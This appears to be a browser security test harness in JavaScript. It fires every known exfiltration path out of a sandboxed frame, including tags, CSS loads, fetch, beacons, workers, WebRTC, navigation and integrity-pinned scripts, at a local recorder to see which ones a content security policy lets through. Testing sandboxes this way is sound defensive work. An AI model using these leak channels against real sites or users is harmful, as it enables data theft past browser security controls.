// Every way out that code in the sandboxed frame could try. HTTP, UDP and TCP are the recorder's addresses; PIN is the
// hash of the page's script, which the policy allows: an external script with that integrity is the subtlest way out.
const at = (name) => `${HTTP}/leak/frame/${name}`;

const HTML = {
  img: (u) => `<img src="${u}">`,
  "img-srcset": (u) => `<img srcset="${u} 1x">`,
  picture: (u) => `<picture><source srcset="${u}"><img></picture>`,
  "input-image": (u) => `<input type="image" src="${u}">`,
  "body-background": (u) => `<body background="${u}">`,
  "table-background": (u) => `<table background="${u}"><tr><td>`,
  video: (u) => `<video src="${u}" preload="auto">`,
  "video-poster": (u) => `<video poster="${u}">`,
  "video-source": (u) => `<video preload="auto"><source src="${u}"></video>`,
  audio: (u) => `<audio src="${u}" preload="auto">`,
  track: (u) => `<video preload="auto"><track default kind="captions" src="${u}"></video>`,
  object: (u) => `<object data="${u}"></object>`,
  embed: (u) => `<embed src="${u}">`,
  iframe: (u) => `<iframe src="${u}"></iframe>`,
  "iframe-srcdoc": (u) => `<iframe srcdoc="<img src='${u}'>"></iframe>`,
  "iframe-javascript": (u) => `<iframe src="javascript:fetch('${u}',{mode:'no-cors'})"></iframe>`,
  "iframe-data": (u) => `<iframe src="data:text/html,<img src='${u}'>"></iframe>`,
  stylesheet: (u) => `<link rel="stylesheet" href="${u}">`,
  "stylesheet-alternate": (u) => `<link rel="alternate stylesheet" title="x" href="${u}">`,
  icon: (u) => `<link rel="icon" href="${u}">`,
  manifest: (u) => `<link rel="manifest" href="${u}">`,
  prefetch: (u) => `<link rel="prefetch" href="${u}">`,
  prerender: (u) => `<link rel="prerender" href="${u}">`,
  modulepreload: (u) => `<link rel="modulepreload" href="${u}">`,
  "modulepreload-integrity": (u) => `<link rel="modulepreload" integrity="${PIN}" href="${u}">`,
  "preload-script": (u) => `<link rel="preload" as="script" href="${u}">`,
  "preload-script-integrity": (u) => `<link rel="preload" as="script" integrity="${PIN}" href="${u}">`,
  "preload-style": (u) => `<link rel="preload" as="style" href="${u}">`,
  "preload-image": (u) => `<link rel="preload" as="image" href="${u}">`,
  "preload-font": (u) => `<link rel="preload" as="font" crossorigin href="${u}">`,
  "preload-fetch": (u) => `<link rel="preload" as="fetch" crossorigin href="${u}">`,
  preconnect: () => `<link rel="preconnect" href="http://127.0.0.1:${TCP}">`,
  "dns-prefetch": () => `<link rel="dns-prefetch" href="//picture.invalid">`,
  "style-import": (u) => `<style>@import "${u}";</style>`,
  "style-background": (u) => `<style>body { background: url("${u}") }</style>`,
  "style-attribute": (u) => `<p style="background: url('${u}')">x</p>`,
  "style-font": (u) => `<style>@font-face { font-family: x; src: url("${u}") } p { font-family: x }</style><p>x</p>`,
  "style-cursor": (u) => `<style>body { cursor: url("${u}"), auto }</style>`,
  "style-content": (u) => `<style>p::before { content: url("${u}") }</style><p>x</p>`,
  "style-mask": (u) => `<style>p { mask-image: url("${u}") }</style><p>x</p>`,
  "style-image-set": (u) => `<style>p { background: image-set("${u}" 1x) }</style><p>x</p>`,
  "svg-image": (u) => `<svg><image href="${u}" width="9" height="9"/></svg>`,
  "svg-use": (u) => `<svg><use href="${u}#x"/></svg>`,
  "svg-fe-image": (u) =>
    `<svg><filter id="f"><feImage href="${u}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  "meta-csp-report": (u) => `<meta http-equiv="Content-Security-Policy" content="form-action *; report-uri ${u}">`,
};

const CALLS = {
  fetch: (u) => fetch(u, { mode: "no-cors" }),
  "fetch-post": (u) => fetch(u, { mode: "no-cors", method: "POST", body: "picture" }),
  "fetch-tcp": () => fetch(`http://127.0.0.1:${TCP}/`, { mode: "no-cors" }),
  "fetch-keepalive": (u) => fetch(u, { mode: "no-cors", keepalive: true }),
  "fetch-later": (u) => fetchLater(u, { activateAfter: 0 }),
  xhr: (u) => {
    const request = new XMLHttpRequest();
    request.open("POST", u);
    request.send("picture");
  },
  beacon: (u) => navigator.sendBeacon(u, "picture"),
  websocket: (u) => new WebSocket(u.replace("http", "ws")),
  eventsource: (u) => new EventSource(u),
  image: (u) => {
    new Image().src = u;
  },
  "new-audio": (u) => new Audio(u).load(),
  script: (u) => element("script", { src: u }),
  "script-integrity": (u) => element("script", { src: u, integrity: PIN, crossOrigin: "anonymous" }),
  "script-module": (u) => element("script", { src: u, type: "module" }),
  "script-module-integrity": (u) => element("script", { src: u, type: "module", integrity: PIN, crossOrigin: "" }),
  "script-svg": (u) => {
    const script = document.createElementNS("http://www.w3.org/2000/svg", "script");
    script.setAttribute("href", u);
    document.body.append(script);
  },
  "speculation-rules": (u) =>
    element("script", { type: "speculationrules", text: JSON.stringify({ prefetch: [{ source: "list", urls: [u] }] }) }),
  import: (u) => import(u),
  "import-data": (u) => import(`data:text/javascript,fetch("${u}", {mode: "no-cors"})`),
  worker: (u) => new Worker(u),
  "worker-blob": (u) => new Worker(blob(`fetch("${u}", {mode: "no-cors"})`)),
  "worker-blob-import": (u) => new Worker(blob(`importScripts("${u}")`)),
  "worker-blob-module": (u) => new Worker(blob(`import "${u}"`), { type: "module" }),
  "shared-worker": (u) => new SharedWorker(u),
  "shared-worker-blob": (u) => new SharedWorker(blob(`fetch("${u}", {mode: "no-cors"})`)),
  "service-worker": (u) => navigator.serviceWorker.register(u),
  "paint-worklet": (u) => CSS.paintWorklet.addModule(u),
  "audio-worklet": (u) => new AudioContext().audioWorklet.addModule(u),
  "font-face": (u) => new FontFace("x", `url(${u})`).load(),
  "style-sheet": (u) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url("${u}") }`);
    document.adoptedStyleSheets = [sheet];
  },
  "style-property": (u) => {
    document.body.style.backgroundImage = `url("${u}")`;
  },
  "window-open": (u) => open(u),
  "parent-location": (u) => {
    parent.location = u;
  },
  "top-location": (u) => {
    top.location.href = u;
  },
  "anchor-blank": (u) => element("a", { href: u, target: "_blank" }).click(),
  "anchor-top": (u) => element("a", { href: u, target: "_top" }).click(),
  "form-blank": (u) => element("form", { action: u, method: "post", target: "_blank" }).submit(),
  "form-top": (u) => element("form", { action: u, method: "post", target: "_top" }).submit(),
  "rtc-stun": async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${UDP}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
  webtransport: () => new WebTransport(`https://127.0.0.1:${UDP}/`),
  "write-image": (u) => document.body.insertAdjacentHTML("beforeend", `<img src="${u}">`),
  "parent-message": (u) => parent.postMessage({ src: u }, "*"),
};

// These replace the frame's own document, so each gets a frame to itself: the picture's name says which.
const MOVES = {
  location: (u) => {
    location.href = u;
  },
  replace: (u) => location.replace(u),
  "form-self": (u) => element("form", { action: u, method: "post" }).submit(),
  "anchor-self": (u) => element("a", { href: u }).click(),
  "anchor-download": (u) => element("a", { href: u, download: "x" }).click(),
  "anchor-ping": (u) => element("a", { href: "#x", ping: u }).click(),
  "meta-refresh": (u) => {
    document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${u}">`);
  },
  "location-javascript": (u) => {
    location.href = `javascript:fetch('${u}',{mode:'no-cors'})`;
  },
  "document-write": (u) => document.write(`<img src="${u}"><script src="${u}"></` + "script>"),
};

function element(name, properties) {
  const made = Object.assign(document.createElement(name), properties);
  document.body.append(made);
  return made;
}

function blob(text) {
  return URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
}

function fire(name, leak) {
  try {
    Promise.resolve(leak(at(name))).catch(() => {});
  } catch {
    // Refused, or not there in this browser.
  }
}

self.onmessage = async ({ data: file, ports: [port] }) => {
  if (Object.hasOwn(MOVES, file.name)) {
    fire(file.name, MOVES[file.name]);
  } else {
    for (const [name, html] of Object.entries(HTML)) {
      const holder = element("div", {});
      fire(name, (u) => {
        holder.innerHTML = html(u);
      });
      if (holder.querySelector("link, meta, style")) document.head.append(...holder.querySelectorAll("link, meta, style"));
    }
    for (const [name, leak] of Object.entries(CALLS)) fire(name, leak);
  }
  await new Promise((resolve) => setTimeout(resolve, 2500));
  port.postMessage(["done", "5ea".repeat(21) + "5", 77, "", 0]);
};
